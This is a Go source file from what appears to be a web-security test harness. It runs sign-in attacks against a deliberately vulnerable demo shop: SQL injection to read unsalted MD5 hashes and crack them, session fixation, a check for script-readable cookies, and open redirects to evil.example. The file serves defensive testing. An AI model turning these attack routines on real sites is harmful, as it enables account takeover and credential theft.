package attacks

import (
	"context"
	"crypto/md5"
	"encoding/hex"
	"net/http"
	"net/url"
	"regexp"
	"strings"

	"github.com/gatehousehq/gatehouse/examples/shop"
)

const signInClass = "Sign-in"

func signIns() []Case {
	return []Case{
		{ID: "weak-hash", Title: "Turn a stolen password hash into a password", Class: signInClass, Stops: []string{"data/guard", "identity/accounts"},
			Try: "read the hashes (sqli-search), look them up (they are MD5 without a salt), and sign in at {base}/login", Run: crack},
		{ID: "session-fixation", Title: "Plant a cart's cookie, and be signed in when its owner is", Class: signInClass, Stops: []string{"identity/source"},
			Try: "put something into the cart, set its cookie wren_session in another browser, sign in there by {base}/login?next=/checkout, and open {base}/account here", Run: fixSession},
		{ID: "cookie-readable", Title: "A session cookie that scripts can read", Class: signInClass, Stops: []string{"application/cookies"},
			Try: "sign in at {base}/login, and say document.cookie in the browser's console", Run: readableCookie},
		{ID: "open-redirect", Title: "Sign in here, arrive on another site", Class: "Open redirect", Stops: []string{"application/rules"},
			Try: "{base}/login?next=https://evil.example/ and sign in", Run: openRedirect("https://evil.example/shop")},
		{ID: "open-redirect-slashes", Title: "The same with two slashes", Class: "Open redirect", Stops: []string{"application/rules"},
			Try: "{base}/login?next=//evil.example/ and sign in", Run: openRedirect("//evil.example/shop")},
	}
}

var md5InHTML = regexp.MustCompile(`\b[0-9a-f]{32}\b`)

func crack(ctx context.Context, t *Target) (Result, error) {
	r, err := newVisitor(t).get(ctx, "/search?"+query("q", "zz", "category", "' "+unionOfUsers+" WHERE id <= 4 --"))
	if err != nil {
		return Result{}, err
	}
	stolen := map[string]bool{}
	for _, hash := range md5InHTML.FindAllString(string(r.body), -1) {
		stolen[hash] = true
	}
	for _, word := range commonPasswords() {
		sum := md5.Sum([]byte(word))
		if !stolen[hex.EncodeToString(sum[:])] {
			continue
		}
		for _, a := range shop.Accounts() {
			if a.Password == word {
				return signsIn(ctx, newVisitor(t), a.Email, word)
			}
		}
	}
	return failed(r, "no hash could be read, or none was of a common password")
}

// signsIn signs in and tells whether the account is open.
func signsIn(ctx context.Context, v *visitor, email, password string) (Result, error) {
	if _, err := v.post(ctx, "/login", "email", email, "password", password); err != nil {
		return Result{}, err
	}
	r, err := v.get(ctx, "/account")
	if err != nil {
		return Result{}, err
	}
	return judged(r, r.status == http.StatusOK && r.has(email), "the account is open", "the account stays closed")
}

// fixSession plants the cookie of the attacker's own cart in a victim's browser, as
// a page of a sibling domain or a script can, and waits.
func fixSession(ctx context.Context, t *Target) (Result, error) {
	victim, err := signUp(ctx, t, "mine, not yours")
	if err != nil {
		return Result{}, err
	}
	attacker := newVisitor(t)
	if _, err := attacker.post(ctx, "/cart/add", "product", "2", "quantity", "1"); err != nil {
		return Result{}, preparing(err)
	}
	browser := newVisitor(t)
	for name, c := range attacker.cookies {
		browser.cookies[name] = &http.Cookie{Name: c.Name, Value: c.Value}
	}
	if _, err := browser.post(ctx, "/login", "email", victim.email, "password", victim.password, "next", "/checkout"); err != nil {
		return Result{}, preparing(err)
	}
	return attacker.opens(ctx, victim.email, "the attacker is signed in as the victim", "the planted session opens nothing")
}

func readableCookie(ctx context.Context, t *Target) (Result, error) {
	victim, err := signUp(ctx, t, "crumbs")
	if err != nil {
		return Result{}, err
	}
	v := newVisitor(t)
	r, err := v.post(ctx, "/login", "email", victim.email, "password", victim.password)
	if err != nil {
		return Result{}, err
	}
	for _, c := range v.cookies {
		if !c.HttpOnly {
			return succeeded(r, "%s is readable by every script", c.Name)
		}
	}
	return failedBy("application/cookies", r, "no cookie of the sign-in is readable")
}

func openRedirect(next string) func(context.Context, *Target) (Result, error) {
	return func(ctx context.Context, t *Target) (Result, error) {
		victim, err := signUp(ctx, t, "elsewhere")
		if err != nil {
			return Result{}, err
		}
		v := newVisitor(t)
		form, err := v.get(ctx, "/login?"+query("next", next))
		if err != nil {
			return Result{}, err
		}
		r, err := v.post(ctx, "/login", "email", victim.email, "password", victim.password, "next", next)
		if err != nil {
			return Result{}, err
		}
		to, err := url.Parse(r.location())
		if err != nil {
			return failed(r, "the redirect is no address")
		}
		away := strings.EqualFold(t.Base.ResolveReference(to).Hostname(), "evil.example")
		if away && staysAtHome(form.header.Values("Content-Security-Policy")) {
			return failedBy("application/headers", r, "the form's policy lets the browser follow it to no other site")
		}
		return judged(r, away && r.status/100 == 3, "the browser is sent to evil.example", "the browser stays")
	}
}

// staysAtHome reports whether a page's policy keeps what its forms are redirected to on
// the site (CSP level 3, section 6.4.2: browsers check redirects too).
func staysAtHome(policies []string) bool {
	return strings.Contains(strings.Join(policies, ","), "form-action 'self'")
}
